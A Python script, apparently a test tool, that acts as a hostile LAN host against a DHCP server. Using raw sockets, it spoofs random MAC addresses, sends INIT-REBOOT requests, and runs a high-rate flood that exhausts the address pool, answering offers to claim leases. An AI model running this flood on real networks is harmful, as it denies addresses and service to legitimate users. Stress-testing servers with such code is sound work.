#!/usr/bin/env python3
"""dhcp-raw.py: a hostile LAN host's DHCP client, on raw AF_PACKET sockets.

  dhcp-raw.py dora IFACE SERVER NAME      DORA from a made-up MAC (frames
                                          from that MAC too) asking for NAME
  dhcp-raw.py initreboot IFACE N FIRST COUNT
                                          N INIT-REBOOTs from made-up MACs for
                                          addresses of the pool, then one
                                          DISCOVER as a control
  dhcp-raw.py flood IFACE SECONDS SERVER FIRST COUNT
                                          every request type from made-up
                                          chaddrs and Ethernet sources, as fast
                                          as it can, answering OFFERs
Prints one line of key=value results.
"""
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4


def ip4(s):
    return socket.inet_aton(s)


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def frame(src, chaddr, xid, mtype, opts=b"", ciaddr=b"\0" * 4):
    dhcp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s4s", 1, 1, 6, 0, xid, 0, 0,
                       ciaddr, b"\0" * 4, b"\0" * 4, b"\0" * 4,
                       chaddr + b"\0" * 10, b"", b"", b"\x63\x82\x53\x63")
    dhcp += bytes([53, 1, mtype]) + opts + b"\xff"
    dhcp += b"\0" * max(0, 300 - len(dhcp))
    udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17,
                      0, b"\0" * 4, b"\xff" * 4)
    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
    return b"\xff" * 6 + src + struct.pack("!H", ETH_P_IP) + iph + udp


# Offsets in the frame: Ethernet 14, IP 20, UDP 8, then BOOTP.
OFF_SRC, OFF_XID, OFF_CIADDR, OFF_CHADDR = 6, 42 + 4, 42 + 12, 42 + 28
OFF_OPTS = 42 + 240


def opt(code, val):
    return bytes([code, len(val)]) + val


def rand_mac():
    m = bytearray(os.urandom(6))
    m[0] = (m[0] & 0xFE) | 0x02     # unicast, locally administered
    return bytes(m)


def sockets(iface):
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx.bind((iface, 0))
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                       socket.htons(ETH_P_IP))
    rx.bind((iface, ETH_P_IP))
    rx.setblocking(False)
    return tx, rx


def replies(rx):
    """Yields (type, xid, yiaddr, chaddr) of the DHCP replies queued."""
    while True:
        try:
            b, addr = rx.recvfrom(2048)
        except BlockingIOError:
            return
        if addr[2] == PACKET_OUTGOING or len(b) < 14 + 20 + 8 + 240:
            continue
        ihl = (b[14] & 15) * 4
        if b[14 + 9] != 17:
            continue
        u = 14 + ihl
        if struct.unpack("!H", b[u + 2:u + 4])[0] != 68:
            continue
        d = u + 8
        if b[d] != 2:
            continue
        xid = struct.unpack("!I", b[d + 4:d + 8])[0]
        yiaddr = b[d + 16:d + 20]
        chaddr = b[d + 28:d + 34]
        o, mtype = d + 240, 0
        while o + 1 < len(b) and b[o] != 255:
            if b[o] == 0:
                o += 1
                continue
            if b[o] == 53:
                mtype = b[o + 2]
            o += 2 + b[o + 1]
        yield mtype, xid, yiaddr, chaddr


def wait_reply(rx, xid, want, timeout):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        for mtype, x, yiaddr, _ in replies(rx):
            if x == xid and mtype in want:
                return mtype, yiaddr
        time.sleep(0.01)
    return None, None


def dora(iface, server, name):
    tx, rx = sockets(iface)
    mac = rand_mac()
    xid = random.getrandbits(32)
    hn = opt(12, name.encode())
    for _ in range(3):
        tx.send(frame(mac, mac, xid, 1, hn))
        mtype, yiaddr = wait_reply(rx, xid, (2,), 1.0)
        if mtype:
            break
    else:
        print("result=none mac=" + mac.hex(":"))
        return
    req = hn + opt(54, ip4(server)) + opt(50, yiaddr)
    tx.send(frame(mac, mac, xid, 3, req))
    mtype, yiaddr = wait_reply(rx, xid, (5, 6), 2.0)
    print("result=%s ip=%s mac=%s" % ({5: "ack", 6: "nak"}.get(mtype, "none"),
          socket.inet_ntoa(yiaddr) if mtype == 5 else "-", mac.hex(":")))


def pool_addr(first, count):
    base = struct.unpack("!I", ip4(first))[0]
    return struct.pack("!I", base + random.randrange(count))


def initreboot(iface, n, first, count):
    tx, rx = sockets(iface)
    xids = set()
    for _ in range(n):
        mac = rand_mac()
        xid = random.getrandbits(32)
        xids.add(xid)
        tx.send(frame(mac, mac, xid, 3, opt(50, pool_addr(first, count))))
    # Control: a DISCOVER must be seen answered, or the sniffer is blind.
    mac = rand_mac()
    cxid = random.getrandbits(32)
    tx.send(frame(mac, mac, cxid, 1))
    got = {"ack": 0, "nak": 0, "other": 0}
    control = 0
    end = time.monotonic() + 2.0
    while time.monotonic() < end and not control:
        for mtype, x, _, _ in replies(rx):
            if x == cxid and mtype == 2:
                control = 1
            elif x in xids:
                got[{5: "ack", 6: "nak"}.get(mtype, "other")] += 1
        time.sleep(0.01)
    # What else arrives in the next half second still counts.
    time.sleep(0.5)
    for mtype, x, _, _ in replies(rx):
        if x in xids:
            got[{5: "ack", 6: "nak"}.get(mtype, "other")] += 1
    print("sent=%d acks=%d naks=%d other=%d control_offer=%d" %
          (n, got["ack"], got["nak"], got["other"], control))


def flood(iface, seconds, server, first, count):
    tx, rx = sockets(iface)
    sid = opt(54, ip4(server))
    zero = b"\0" * 6
    # Templates: DISCOVER, SELECTING, INIT-REBOOT, RENEWING; the address
    # option is the first one after 53, at OFF_OPTS + 3 + 2.
    tmpl = [
        (bytearray(frame(zero, zero, 0, 1)), None, False),
        (bytearray(frame(zero, zero, 0, 3, opt(50, b"\0" * 4) + sid)),
         OFF_OPTS + 5, False),
        (bytearray(frame(zero, zero, 0, 3, opt(50, b"\0" * 4))),
         OFF_OPTS + 5, False),
        (bytearray(frame(zero, zero, 0, 3)), OFF_CIADDR, True),
    ]
    sent = offers = acks = answered = 0
    base = struct.unpack("!I", ip4(first))[0]
    end = time.monotonic() + seconds
    rnd = b""
    while True:
        if sent % 256 == 0:
            if time.monotonic() >= end:
                break
            # A real attacker completes the exchange for what it is offered.
            for mtype, xid, yiaddr, chaddr in replies(rx):
                if mtype == 2:
                    offers += 1
                    tx.send(frame(chaddr, chaddr, xid, 3,
                                  opt(50, yiaddr) + sid))
                    answered += 1
                elif mtype == 5:
                    acks += 1
        if len(rnd) < 20:
            rnd = os.urandom(20 * 4096)
        chunk, rnd = rnd[:20], rnd[20:]
        f, addr_off, _ = tmpl[chunk[0] & 3]
        chaddr = bytes([(chunk[1] & 0xFE) | 0x02]) + chunk[2:7]
        # Half the frames come from their chaddr (a consistent fake), half
        # from yet another made-up source.
        src = chaddr if chunk[7] & 1 else bytes([(chunk[8] & 0xFE) | 0x02]) + chunk[9:14]
        f[OFF_SRC:OFF_SRC + 6] = src
        f[OFF_CHADDR:OFF_CHADDR + 6] = chaddr
        f[OFF_XID:OFF_XID + 4] = chunk[14:18]
        if addr_off:
            f[addr_off:addr_off + 4] = struct.pack(
                "!I", base + (chunk[18] << 8 | chunk[19]) % count)
        try:
            tx.send(f)
        except OSError:
            pass    # a full queue: the flood goes on
        sent += 1
    time.sleep(0.3)
    for mtype, xid, yiaddr, chaddr in replies(rx):
        offers += mtype == 2
        acks += mtype == 5
    print("sent=%d seconds=%s rate=%d offers=%d requests_for_offers=%d acks=%d" %
          (sent, seconds, sent / float(seconds), offers, answered, acks))


def main():
    cmd = sys.argv[1]
    if cmd == "dora":
        dora(sys.argv[2], sys.argv[3], sys.argv[4])
    elif cmd == "initreboot":
        initreboot(sys.argv[2], int(sys.argv[3]), sys.argv[4],
                   int(sys.argv[5]))
    elif cmd == "flood":
        flood(sys.argv[2], float(sys.argv[3]), sys.argv[4], sys.argv[5],
              int(sys.argv[6]))
    else:
        sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    main()
